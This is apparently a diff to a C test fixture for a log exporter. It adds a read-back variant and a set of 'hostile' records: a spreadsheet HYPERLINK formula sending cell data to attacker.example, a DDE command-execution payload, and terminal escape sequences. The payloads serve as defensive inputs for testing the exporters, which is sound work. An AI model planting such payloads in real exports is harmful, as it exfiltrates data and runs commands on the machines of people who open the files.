@@ -82,7 +82,8 @@ export_records_add_error (LdBatch *batch)
 }
 
 static void
-export_records_add_text (LdBatch *batch)
+export_records_add_text (LdBatch  *batch,
+                         gboolean  read_back)
 {
   LdRecordFields f = { 0 };
 
@@ -113,7 +114,9 @@ export_records_add_text (LdBatch *batch)
   f.line = 3;
   ld_batch_add (batch, &f);
   ld_batch_add_extra (batch, "big", -1, LD_VALUE_NUMBER, "123456789012345678901234567890", -1);
-  ld_batch_add_extra (batch, "huge", -1, LD_VALUE_NUMBER, "1e400", -1);
+  /* Too big for a double: exported as a string, and read back as one. */
+  ld_batch_add_extra (batch, "huge", -1, read_back ? LD_VALUE_STRING : LD_VALUE_NUMBER, "1e400",
+                      -1);
   ld_batch_add_extra (batch, "tiny", -1, LD_VALUE_NUMBER, "1.5e-07", -1);
   ld_batch_add_extra (batch, "off", -1, LD_VALUE_BOOL, "false", -1);
 }
@@ -197,18 +200,62 @@ export_records_add_edges (LdBatch *batch)
   ld_batch_add_extra (batch, "module", -1, LD_VALUE_STRING, "template", -1);
 }
 
+/* What a spreadsheet would run as a formula, and what a terminal would act on. */
+static void
+export_records_add_hostile (LdBatch *batch)
+{
+  LdRecordFields f = { 0 };
+
+  f.time_us = EXPORT_TIME_0 + 6000000;
+  f.level = LD_LEVEL_WARNING;
+  f.level_name = "WARNING";
+  f.logger = "app.csv";
+  f.message = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Error: click for details\")";
+  ld_batch_add (batch, &f);
+  ld_batch_add_extra (batch, "cmd", -1, LD_VALUE_STRING, "=cmd|' /C calc'!A0", -1);
+  ld_batch_add_extra (batch, "term", -1, LD_VALUE_STRING,
+                      "\033]0;owned\007\033[2J \302\233" "31m red \177", -1);
+  ld_batch_add_extra (batch, "minus", -1, LD_VALUE_NUMBER, "-4", -1);
+  ld_batch_add_extra (batch, "plus", -1, LD_VALUE_STRING, "+1", -1);
+  ld_batch_add_extra (batch, "at", -1, LD_VALUE_STRING, "@SUM(A1)", -1);
+
+  memset (&f, 0, sizeof f);
+  f.time_us = EXPORT_TIME_0 + 6000001;
+  f.level = LD_LEVEL_ERROR;
+  f.level_name = "ERROR";
+  f.logger = "app.term";
+  f.message = "\033[31mred\033[0m, a CR\r over it, a tab\tand a CRLF\r\nline two";
+  f.exception = export_traceback;
+  f.thread = "-worker";
+  ld_batch_add (batch, &f);
+}
+
 static inline LdBatch *
-export_records_new (void)
+export_records_build (gboolean read_back)
 {
   LdBatch *batch = ld_batch_new ();
 
   export_records_add_full (batch);
   export_records_add_error (batch);
-  export_records_add_text (batch);
+  export_records_add_text (batch, read_back);
   export_records_add_levels (batch);
   export_records_add_edges (batch);
+  export_records_add_hostile (batch);
 
   return batch;
+}
+
+static inline LdBatch *
+export_records_new (void)
+{
+  return export_records_build (FALSE);
+}
+
+/* The records as the JSON Lines export of export_records_new() reads back. */
+G_GNUC_UNUSED static inline LdBatch *
+export_records_new_read_back (void)
+{
+  return export_records_build (TRUE);
 }
 
 /* The level's name as every exporter writes it. */
